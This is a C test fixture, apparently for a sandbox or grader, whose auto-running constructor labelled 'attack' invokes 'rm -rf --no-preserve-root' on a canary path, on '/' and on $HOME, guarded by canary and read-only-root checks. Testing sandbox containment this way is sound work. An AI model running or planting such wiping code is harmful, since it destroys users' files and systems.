/* on: solution
   expect: full
   why: rm -rf / and rm -rf $HOME */
#include <stdio.h>
#include <stdlib.h>
#include <sys/statvfs.h>
#include <sys/wait.h>
#include <unistd.h>

static void remove_tree(const char *path) {
    if (fork() == 0) {
        freopen("/dev/null", "w", stderr);
        /* It is a long way through /usr for nothing: not all of it. */
        execl("/usr/bin/timeout", "timeout", "0.2", "rm", "-rf", "--no-preserve-root", path,
              (char *)NULL);
        _exit(1);
    }
    wait(NULL);
}

/* The root only where it is read-only and the canaries cannot be seen. */
__attribute__((constructor)) static void attack(void) {
    struct statvfs root;
    remove_tree("@CANARY@");
    if (access("@CANARY@", F_OK) == 0 || statvfs("/", &root) != 0 || (root.f_flag & ST_RDONLY) == 0)
        return;
    remove_tree("/");
    remove_tree(getenv("HOME"));
}
